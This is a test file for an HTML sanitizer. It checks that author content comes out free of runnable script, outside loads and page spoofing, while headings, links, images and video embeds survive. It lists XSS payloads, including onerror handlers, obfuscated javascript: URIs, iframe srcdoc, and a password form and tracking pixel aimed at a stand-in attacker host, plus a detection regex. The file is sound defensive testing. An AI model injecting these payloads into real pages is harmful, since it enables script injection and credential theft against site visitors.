import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { SCRIPT_VECTORS } from './testing/hostile/script-vectors.ts'

const RUNS =
  /<script|<style|javascript:|vbscript:|\son\w+\s*=|<svg|<math|<object|<embed|<form|<meta|<base|srcdoc|style=/i

describe('row 38: what an author writes can neither run, nor load from elsewhere, nor dress up as the page', () => {
  test.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="/media/a.webp" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<p style="position:fixed;inset:0">x</p>',
    '<style>body{display:none}</style>',
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/media/../evil.example">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script></textarea>',
    '<!--><script>alert(1)</script>-->',
    '<p class="zocalo" id="contenido" onclick=alert(1)>x</p>',
    `${'<blockquote>'.repeat(5_000)}hondo`,
  ])('%s', (html) => {
    const clean = cleanHtml(html)
    expect(clean).not.toMatch(RUNS)
    expect(clean).not.toContain('evil.example')
    expect(cleanHtml(clean)).toBe(clean)
  })

  test(`none of ${SCRIPT_VECTORS.length} known tricks is left, alone or one behind another`, () => {
    expect(SCRIPT_VECTORS.length).toBeGreaterThan(500)
    for (const html of [...SCRIPT_VECTORS, SCRIPT_VECTORS.join('\n')]) {
      const clean = cleanHtml(html)
      expect(clean, html).not.toMatch(
        /<[^>]*(javascript|vbscript|data):|<[^>]*\son\w+\s*=|<(script|style|svg|math|form|input)/i,
      )
      expect(cleanHtml(clean), html).toBe(clean)
    }
  })

  test('what was cleaned comes out the same, whatever it was', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '&lt;',
      '<b>',
      '</b>',
      '<a href="',
      'on',
      'x',
      ' ',
      '<script>',
      '<img src=',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
        const clean = cleanHtml(pieces.join(''))
        expect(cleanHtml(clean)).toBe(clean)
        expect(clean).not.toMatch(/<script|\son\w+=/i)
      }),
    )
  })

  test('what an author means stays: headings, lists, links, our pictures, the video hosts', () => {
    const text =
      '<h2>Uno</h2><p>Dos <strong>tres</strong> y <em>ñandú</em></p><ul><li>a</li></ul>' +
      '<p><a href="/faq">aquí</a></p><img src="/media/archivos/abc/480.webp" alt="Una casa" loading="lazy" decoding="async" />' +
      '<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" title="La obra"></iframe>' +
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=90" title="Video"></iframe>'
    expect(cleanHtml(text)).toBe(text)
    expect(cleanHtml('<a href="https://otra.example/">x</a>')).toBe(
      '<a href="https://otra.example/" rel="noopener noreferrer" target="_blank">x</a>',
    )
    // A video's frame is the host's player without cookies, by any address of the video; no other frame stays.
    expect(cleanHtml('<iframe width="560" src="//www.youtube.com/embed/dQw4w9WgXcQ?si=x"></iframe>')).toBe(
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video" width="560"></iframe>',
    )
    expect(cleanHtml('<iframe src="https://player.vimeo.com/api/1234567"></iframe>')).not.toContain('api')
    expect(cleanHtml('<iframe src="https://www.youtube-nocookie.com/"></iframe>')).toBe('')
    expect(cleanHtml('<h1>Un título</h1>')).toBe('<h2>Un título</h2>')
  })
})
